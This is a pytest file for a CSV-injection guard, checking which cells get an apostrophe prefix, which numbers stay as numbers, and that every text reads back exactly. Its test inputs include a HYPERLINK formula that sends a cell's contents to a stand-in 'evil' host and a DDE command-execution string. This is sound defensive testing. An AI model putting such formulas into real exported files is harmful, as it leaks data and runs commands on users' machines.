"""CSV cells a spreadsheet shows as text, never runs as a formula (OWASP "CSV Injection"), while
the exchange's plain decimal numbers stay numbers and every text reads back exactly."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from exchange.spreadsheet import spreadsheet_cell, spreadsheet_row


def read_back(cell: str) -> str:
    """The text a cell was written from: a cell beginning with ``'`` had exactly one added."""
    return cell.removeprefix("'")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "-abc",
        "-",
        "--1",
        "-1e3",
        "- 1",
        "-1,000",
        "-\u0661\u0662",
        "\t=1+1",
        "\r=1+1",
        "=",
        "'=1+1",
        "'quoted",
    ],
)
def test_a_cell_a_spreadsheet_would_take_for_a_formula_is_written_as_text(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("number", ["-120", "-3.50", "-0.000001", "-.5", "-1.", "0", "120", "3.50"])
def test_a_plain_decimal_number_stays_a_number(number: str) -> None:
    assert spreadsheet_cell(number) == number


@pytest.mark.parametrize(
    "text",
    ["", "conversion:c1", "fresh-mart", "2026-11-20T04:00:00Z", "台北 101", "\uff1d1+1", "\u22121", " =1+1", "a=b"],
)
def test_other_text_is_written_as_it_is(text: str) -> None:
    """Empty cells, text beginning with a letter, a digit, a space or a character of another
    script (a full-width equals sign, a minus sign U+2212) are not formulas."""
    assert spreadsheet_cell(text) == text


@given(st.text())
def test_every_text_reads_back_exactly(text: str) -> None:
    assert read_back(spreadsheet_cell(text)) == text


def test_a_row_keeps_its_numbers_and_neutralises_its_text_through_a_csv_writer() -> None:
    out = io.StringIO()
    csv.writer(out).writerow(spreadsheet_row(["fresh-mart", "=1+1", "-98.00", "", "@x,y"]))
    assert out.getvalue() == "fresh-mart,'=1+1,-98.00,,\"'@x,y\"\r\n"
